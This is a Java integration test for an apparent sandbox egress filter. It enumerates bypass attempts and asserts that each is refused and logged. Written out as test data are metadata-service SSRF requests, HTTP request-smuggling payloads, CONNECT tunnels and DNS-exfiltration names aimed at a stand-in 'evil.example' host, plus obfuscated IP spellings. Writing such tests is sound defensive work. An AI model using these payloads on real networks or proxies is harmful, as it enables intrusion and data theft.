package dev.glovebox.egress;

import static org.assertj.core.api.Assertions.assertThat;

import dev.glovebox.core.egress.EgressAttempt;
import dev.glovebox.core.egress.EgressDecision;
import dev.glovebox.core.egress.EgressEvent;
import dev.glovebox.core.egress.HostName;
import dev.glovebox.core.egress.NetworkPolicy;
import dev.glovebox.core.egress.PolicyExplanation;
import dev.glovebox.core.egress.Protocol;
import dev.glovebox.core.egress.Surroundings;
import dev.glovebox.core.egress.Tunnel;
import dev.glovebox.core.egress.TunnelName;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.xbill.DNS.DClass;
import org.xbill.DNS.Message;
import org.xbill.DNS.Name;
import org.xbill.DNS.Record;
import org.xbill.DNS.Type;

/// Ideas for getting out, each refused, with its rule on the record and without a byte at the server that it
/// was meant for. What needs namespaces (raw sockets, other protocols, spoofed addresses) is tried where there
/// are some.
class BypassIT {
    private static final String API = "140.82.112.5";
    /// One address with many names behind it, as a content network has.
    private static final String SHARED = "151.101.1.1";

    private static final String EVIL = "45.33.32.156";
    private static final Tunnel DATABASE =
            new Tunnel(new TunnelName("orders-db"), "10.0.0.7", 5432, false, 2, 0, Duration.ofMinutes(5));
    private static final NetworkPolicy POLICY = EgressIT.policy(
            List.of("api.github.com", "*.pypi.example", "1.1.1.1:8080", "tcp://git.example:22"),
            Map.of("api.github.com", Map.of("Authorization", "Bearer ${e2b.secrets.GH}")),
            Set.of(DATABASE.name()));

    private final World world = new World();
    private SandboxEgress sandbox = world.sandbox(POLICY, DATABASE);

    @BeforeEach
    void internet() throws IOException {
        world.secrets.put("GH@api.github.com", "ghp_s3cret");
        world.name("api.github.com", API);
        world.name("files.pypi.example", SHARED);
        world.name("evil.example", EVIL, SHARED);
        world.name("inside.pypi.example", "10.0.0.7", "127.0.0.1");
        world.serveSecure(API, 443, "api.github.com");
        world.serveWeb(SHARED, 80);
        world.serveSecure(SHARED, 443, "evil.example");
        for (String inside :
                List.of(EVIL, "10.0.0.7", "127.0.0.1", "169.254.169.254", "9.9.9.9", "8.8.8.8", "1.1.1.1")) {
            for (int port : List.of(22, 80, 443, 853, 5432, 8081)) {
                world.serveEcho(inside, port);
            }
        }
        World.lookUp(sandbox, "api.github.com");
        World.lookUp(sandbox, "files.pypi.example");
        world.events.clear();
    }

    @AfterEach
    void close() throws IOException {
        world.close();
    }

    /// An idea.
    ///
    /// @param rule that refuses it
    record Idea(String name, String rule, Attack attack) {
        @Override
        public String toString() {
            return name;
        }
    }

    interface Attack {
        void on(BypassIT the) throws IOException;
    }

    private static Idea idea(String name, String rule, Attack attack) {
        return new Idea(name, rule, attack);
    }

    private static Attack connect(String to, int port) {
        return the -> the.refused(to, port, "hello\r\n");
    }

    private static Attack http(String to, String... lines) {
        return the -> the.refused(to, 80, String.join("\r\n", lines) + "\r\n\r\n");
    }

    private static Attack tls(String to, String name) {
        return the -> the.refused(to, 443, new String(ClientHelloTest.real(name), StandardCharsets.ISO_8859_1));
    }

    private static Attack lookUp(String name, int type) {
        return the -> {
            Record question = Record.newRecord(Name.fromString(name + "."), type, DClass.IN);
            Message answer = new Message(
                    the.sandbox.answer(Message.newQuery(question).toWire()).orElseThrow());
            assertThat(answer.getSection(org.xbill.DNS.Section.ANSWER)).isEmpty();
        };
    }

    /// One TLS connection to the host whose requests are looked at, with these bytes in it.
    private static Attack inTls(String... lines) {
        return the -> {
            try (Socket guest =
                    World.secure(the.world.dial(the.sandbox, API, 443), the.sandbox.authorityPem(), "api.github.com")) {
                World.send(guest, String.join("\r\n", lines) + "\r\n\r\n");
                assertThat(World.receive(guest)).doesNotContain("200 OK");
            }
            assertThat(the.world.heard(API + ":443")).noneMatch(head -> head.contains("HTTP/1.1"));
        };
    }

    private void refused(String to, int port, String text) throws IOException {
        try (Socket guest = world.dial(sandbox, to, port)) {
            try {
                World.send(guest, text);
                guest.shutdownOutput();
            } catch (IOException _) {
                // It was refused without a look at what it says.
            }
            String answer = World.receive(guest);
            assertThat(answer)
                    .satisfiesAnyOf(
                            // Who was told while writing that it is over reads nothing any more.
                            it -> assertThat(it).isIn("", "[reset]"),
                            it -> assertThat(it).startsWith("HTTP/1.1 403 Forbidden"),
                            it -> assertThat(it).startsWith("\u0015\u0003\u0003"));
        }
    }

    static Stream<Idea> ideas() {
        return Stream.of(addresses(), names(), requests(), laterRequests(), requestsInTls(), lookUps())
                .flatMap(List::stream);
    }

    private static List<Idea> addresses() {
        return List.of(
                idea("an address directly", "deny_out ALL_TRAFFIC", connect(EVIL, 22)),
                idea("an address directly, on the port of the web", "name.missing", connect(EVIL, 443)),
                idea("another port of an open address", "deny_out ALL_TRAFFIC", connect("1.1.1.1", 8081)),
                idea("another port of an open name", "deny_out ALL_TRAFFIC", connect(API, 22)),
                idea("DNS over TLS", "deny_out ALL_TRAFFIC", connect("8.8.8.8", 853)),
                idea("DNS over HTTPS by address", "name.not_allowed", tls("8.8.8.8", "dns.google")),
                idea("the machine itself", "always.loopback", connect("127.0.0.1", 22)),
                idea("the machine itself by another number", "always.loopback", connect("127.8.8.8", 80)),
                idea("the machine itself as nowhere", "always.this_network", connect("0.0.0.0", 80)),
                idea("the host's address", "always.host", connect("9.9.9.9", 22)),
                idea("a private address", "always.private", connect("10.0.0.7", 5432)),
                idea("the service of the tunnel, past the tunnel", "always.private", connect("10.0.0.7", 5432)),
                idea("the metadata service", "always.metadata", http("169.254.169.254", "GET / HTTP/1.1", "Host: x.y")),
                idea("Azure's metadata service", "always.metadata", connect("168.63.129.16", 80)),
                idea("the link", "always.link_local", connect("169.254.1.1", 80)),
                idea("a provider's network", "always.cgnat", connect("100.64.0.1", 80)),
                idea("multicast", "always.multicast", connect("239.255.255.250", 1900)),
                idea("broadcast", "always.reserved", connect("255.255.255.255", 80)),
                idea("an IPv4 address as IPv6", "always.mapped", connect("::ffff:45.33.32.156", 80)),
                idea("an IPv4 address behind NAT64", "always.nat64", connect("64:ff9b::2d21:209c", 80)),
                idea("an IPv4 address behind 6to4", "always.6to4", connect("2002:2d21:209c::1", 80)),
                idea("an IPv6 address", "deny_out ALL_TRAFFIC", connect("2600::1", 22)),
                idea("a tunnel's address without asking for it", "always.reserved", connect("198.18.0.9", 5432)),
                idea("another port of a tunnel", "tunnel.port", the -> {
                    String address =
                            World.lookUp(the.sandbox, "orders-db.tunnel").getFirst();
                    the.refused(address, 22, "hello\r\n");
                }));
    }

    private static List<Idea> names() {
        return List.of(
                idea("an open name at another address", "name.address", tls(EVIL, "files.pypi.example")),
                idea("another name at an open address", "name.not_allowed", tls(SHARED, "evil.example")),
                idea("no name in TLS", "name.missing", the -> {
                    String hello = new String(ClientHelloTest.real("1.2.3.4.x"), StandardCharsets.ISO_8859_1);
                    the.refused(SHARED, 443, hello.replace("1.2.3.4.x", "1.2.3.4.5"));
                }),
                idea("a name that ends like an open one", "name.not_allowed", tls(SHARED, "evilpypi.example")),
                idea("the name above the star", "name.not_allowed", tls(SHARED, "pypi.example")),
                idea(
                        "an open name with more behind it",
                        "name.not_allowed",
                        tls(SHARED, "api.github.com.evil.example")),
                idea("an open name with a zero in it", "name.missing", the -> {
                    String hello = new String(ClientHelloTest.real("filesxpypi.example"), StandardCharsets.ISO_8859_1);
                    the.refused(SHARED, 443, hello.replace("filesxpypi", "files\u0000pypi"));
                }),
                idea("a name that looks alike", "name.not_allowed", tls(SHARED, "files.xn--pyp-jfa.example")),
                idea("an encrypted ClientHello", "name.encrypted", BypassIT::encryptedHello),
                idea(
                        "a huge ClientHello",
                        "name.missing",
                        the -> the.refused(
                                SHARED, 443, "\u0016\u0003\u0001@\u0000\u0001\u0000\u00ff\u00ff" + "x".repeat(40_000))),
                idea("a ClientHello that never ends", "name.missing", BypassIT::silence),
                idea(
                        "another protocol on the port of the web",
                        "name.missing",
                        the -> the.refused(SHARED, 443, "\u0000\u0001\u0002\u0003")),
                idea(
                        "SSH on the port of the web",
                        "name.missing",
                        the -> the.refused(SHARED, 443, "SSH-2.0-x\r\n\r\n")),
                idea("SSLv2", "name.missing", the -> the.refused(SHARED, 443, "\u0080.\u0001\u0003\u0001")),
                idea("a raw name's address on another port", "deny_out ALL_TRAFFIC", the -> {
                    the.world.name("git.example", "151.101.1.9");
                    World.lookUp(the.sandbox, "git.example");
                    the.refused("151.101.1.9", 23, "x");
                }));
    }

    private static void encryptedHello(BypassIT the) throws IOException {
        byte[] hello = ClientHelloTest.real("files.pypi.example");
        // The last extension that the JDK sends is turned into the one that hides names.
        int at = lastExtension(hello);
        hello[at] = (byte) 0xfe;
        hello[at + 1] = 0x0d;
        the.refused(SHARED, 443, new String(hello, StandardCharsets.ISO_8859_1));
    }

    private static int lastExtension(byte[] hello) {
        int at = 5 + 4 + 34;
        at += 1 + hello[at];
        at += 2 + (((hello[at] & 0xff) << 8) | (hello[at + 1] & 0xff));
        at += 1 + hello[at];
        at += 2;
        int last = at;
        while (at < hello.length) {
            last = at;
            at += 4 + (((hello[at + 2] & 0xff) << 8) | (hello[at + 3] & 0xff));
        }
        return last;
    }

    /// A guest that sends half of a hello and waits is cut off, and nothing was connected to.
    private static void silence(BypassIT the) throws IOException {
        try (Socket guest = the.world.dial(the.sandbox, SHARED, 443)) {
            guest.setSoTimeout(15_000);
            guest.getOutputStream().write(Arrays.copyOf(ClientHelloTest.real("files.pypi.example"), 50));
            assertThat(World.receive(guest)).isEqualTo("[reset]");
        }
    }

    private static List<Idea> requests() {
        return List.of(
                idea(
                        "another Host at an open address",
                        "name.not_allowed",
                        http(SHARED, "GET / HTTP/1.1", "Host: evil.example")),
                idea("an address as Host", "name.missing", http(SHARED, "GET / HTTP/1.1", "Host: " + SHARED)),
                idea(
                        "two Hosts",
                        "name.missing",
                        http(SHARED, "GET / HTTP/1.1", "Host: files.pypi.example", "Host: evil.example")),
                idea("no Host", "name.missing", http(SHARED, "GET / HTTP/1.1", "A: b")),
                idea(
                        "an absolute target elsewhere",
                        "name.missing",
                        http(SHARED, "GET http://evil.example/ HTTP/1.1", "Host: files.pypi.example")),
                idea(
                        "a target with a user",
                        "name.missing",
                        http(
                                SHARED,
                                "GET http://files.pypi.example@evil.example/ HTTP/1.1",
                                "Host: files.pypi.example")),
                idea(
                        "CONNECT",
                        "name.missing",
                        http(SHARED, "CONNECT evil.example:443 HTTP/1.1", "Host: files.pypi.example")),
                idea("HTTP/2 without TLS", "name.missing", http(SHARED, "PRI * HTTP/2.0", "", "SM")),
                idea(
                        "a folded header",
                        "name.missing",
                        http(SHARED, "GET / HTTP/1.1", "Host: files.pypi.example", " evil.example")),
                idea(
                        "a Host with a blank before its colon",
                        "name.missing",
                        http(SHARED, "GET / HTTP/1.1", "Host : files.pypi.example")),
                idea(
                        "lines that end with a line feed",
                        "name.missing",
                        the -> the.refused(SHARED, 80, "GET / HTTP/1.1\nHost: files.pypi.example\n\n")));
    }

    private static List<Idea> laterRequests() {
        return List.of(
                idea(
                        "the second request for another host",
                        "http.host",
                        the -> the.second("GET / HTTP/1.1", "Host: evil.example", "", "")),
                idea(
                        "a second request hidden behind a body of two lengths",
                        "http.framing",
                        the -> the.second(
                                "POST / HTTP/1.1",
                                "Host: files.pypi.example",
                                "Content-Length: 4",
                                "Transfer-Encoding: chunked",
                                "",
                                "0",
                                "",
                                "GET / HTTP/1.1",
                                "Host: evil.example",
                                "",
                                "")),
                idea(
                        "a chunk with a false size",
                        "http.framing",
                        the -> the.second(
                                "POST / HTTP/1.1",
                                "Host: files.pypi.example",
                                "Transfer-Encoding: chunked",
                                "",
                                "2",
                                "abcd",
                                "0",
                                "",
                                "")),
                idea(
                        "a WebSocket to another host",
                        "name.not_allowed",
                        http(
                                SHARED,
                                "GET / HTTP/1.1",
                                "Host: evil.example",
                                "Upgrade: websocket",
                                "Connection: Upgrade")),
                idea("a secret without TLS", "name.plaintext", the -> {
                    the.world.serveWeb(API, 80);
                    the.refused(API, 80, "GET / HTTP/1.1\r\nHost: api.github.com\r\n\r\n");
                    assertThat(the.world.heard(API + ":80")).isEmpty();
                }));
    }

    /// After a good request on the same connection, a bad one.
    private void second(String... bad) throws IOException {
        try (Socket guest = world.dial(sandbox, SHARED, 80)) {
            World.send(guest, "GET /good HTTP/1.1\r\nHost: files.pypi.example\r\n\r\n");
            World.send(guest, String.join("\r\n", bad));
            World.receive(guest);
        }
        assertThat(world.heard(SHARED + ":80")).noneMatch(head -> head.contains("evil"));
    }

    private static List<Idea> requestsInTls() {
        return List.of(
                idea("another Host within TLS", "http.host", inTls("GET / HTTP/1.1", "Host: evil.example")),
                idea(
                        "an absolute target elsewhere within TLS",
                        "http.host",
                        inTls("GET https://evil.example/ HTTP/1.1", "Host: api.github.com")),
                idea("TRACE, to be shown the secret", "http.trace", inTls("TRACE / HTTP/1.1", "Host: api.github.com")),
                idea(
                        "CONNECT within TLS",
                        "http.connect",
                        inTls("CONNECT evil.example:443 HTTP/1.1", "Host: api.github.com")),
                idea(
                        "two lengths within TLS",
                        "http.framing",
                        inTls("POST / HTTP/1.1", "Host: api.github.com", "Content-Length: 1", "Content-Length: 2")),
                idea(
                        "chunks of an unknown kind within TLS",
                        "http.framing",
                        inTls("POST / HTTP/1.1", "Host: api.github.com", "Transfer-Encoding: chunked, identity")),
                idea(
                        "a header with a carriage return in it",
                        "http.malformed",
                        inTls("GET / HTTP/1.1", "Host: api.github.com", "A: b\rHost: evil.example")),
                idea("a secret that is bound to another host", "secret.missing", the -> {
                    the.world.secrets.clear();
                    the.world.secrets.put("GH@other.example", "ghp_s3cret");
                    inTls("GET / HTTP/1.1", "Host: api.github.com").on(the);
                }));
    }

    private static List<Idea> lookUps() {
        return List.of(
                idea("looking up what is not open", "dns.closed", lookUp("evil.example", Type.A)),
                idea("words in a name that is not open", "dns.closed", lookUp("c2VjcmV0.evil.example", Type.A)),
                idea(
                        "words in a long part below a star",
                        "dns.long_label",
                        lookUp("a".repeat(60) + ".pypi.example", Type.A)),
                idea("words in many parts below a star", "dns.many_labels", lookUp("a.b.c.d.pypi.example", Type.A)),
                idea("texts", "dns.type", lookUp("files.pypi.example", Type.TXT)),
                idea("a name with only inner addresses", "dns.special", lookUp("inside.pypi.example", Type.A)),
                idea("a tunnel of somebody else", "dns.tunnel", lookUp("billing.tunnel", Type.A)),
                idea("who has this address", "dns.closed", lookUp("5.112.82.140.in-addr.arpa", Type.PTR)),
                idea("a name that is an address", "dns.malformed", lookUp("127.0.0.1", Type.A)),
                idea("a name of hexadecimal", "dns.malformed", lookUp("0x7f000001", Type.A)),
                idea("a name that turned inwards", "always.private", the -> {
                    the.world.name("files.pypi.example", "10.0.0.7");
                    World.lookUp(the.sandbox, "files.pypi.example");
                    tls("10.0.0.7", "files.pypi.example").on(the);
                }));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("ideas")
    void isRefusedAndOnTheRecord(Idea idea) throws IOException {
        idea.attack.on(this);
        EgressEvent event =
                world.await(it -> it.rule().equals(idea.rule) && it.kind() != EgressEvent.Kind.CONNECTION_ENDED);
        assertThat(event.kind())
                .isIn(
                        EgressEvent.Kind.CONNECTION_DENIED,
                        EgressEvent.Kind.REQUEST_DENIED,
                        EgressEvent.Kind.NAME_DENIED);
        assertThat(event.words()).isNotBlank();
        for (String server :
                List.of(EVIL, "10.0.0.7", "127.0.0.1", "169.254.169.254", "9.9.9.9", "8.8.8.8", "1.1.1.1")) {
            for (int port : List.of(22, 80, 443, 853, 5432, 8081)) {
                assertThat(world.heard(server + ":" + port))
                        .as(server + ":" + port)
                        .isEmpty();
            }
        }
        assertThat(world.heard(SHARED + ":443")).isEmpty();
        assertThat(world.summary().toString()).doesNotContain("ghp_s3cret");
    }

    @Test
    void thereAreEnoughIdeas() {
        List<String> names = new ArrayList<>(ideas().map(Idea::name).toList());
        assertThat(names).hasSizeGreaterThanOrEqualTo(60).doesNotHaveDuplicates();
    }

    /// UDP never arrives here: only a rule opens a socket for it. What the decision says of it is on the record
    /// wherever a packet is seen.
    @Test
    void udpIsClosedAndQuicSaysWhy() {
        for (int port : List.of(53, 123, 443, 5353)) {
            EgressDecision decision = POLICY.decide(EgressAttempt.udp(World.address(SHARED), port), Surroundings.NONE);
            assertThat(decision)
                    .isInstanceOfSatisfying(
                            EgressDecision.Deny.class,
                            deny -> assertThat(deny.rule()).isEqualTo(port == 443 ? "udp.quic" : "udp.closed"));
        }
        assertThat(PolicyExplanation.explain(POLICY, Surroundings.NONE, SHARED, 443, Protocol.UDP)
                        .lines())
                .anyMatch(line -> line.contains("QUIC"));
    }

    @Test
    void programsThatSpellAddressesOtherwiseEndUpAtTheSameDecision() {
        for (String text : List.of("2130706433", "0177.0.0.1", "0x7f.0.0.1", "127.1", "0x7f000001", "017700000001")) {
            assertThat(HostName.parse(text)).as("a name of " + text).isEmpty();
            assertThat(dev.glovebox.core.egress.IpAddress.parse(text))
                    .as("an address of " + text)
                    .isEmpty();
        }
    }
}
